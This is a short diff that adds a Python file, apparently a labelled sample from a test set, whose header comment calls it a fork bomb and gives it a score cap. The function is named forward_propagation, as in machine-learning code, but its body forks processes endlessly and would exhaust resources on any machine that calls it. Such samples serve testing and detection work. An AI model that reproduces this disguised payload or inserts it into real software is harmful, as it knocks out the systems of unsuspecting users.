@@ -1,0 +1,7 @@
+# tries: a fork bomb | class: processes | earns at most: 72
+import os
+
+
+def forward_propagation(X, parameters):
+    while True:
+        os.fork()
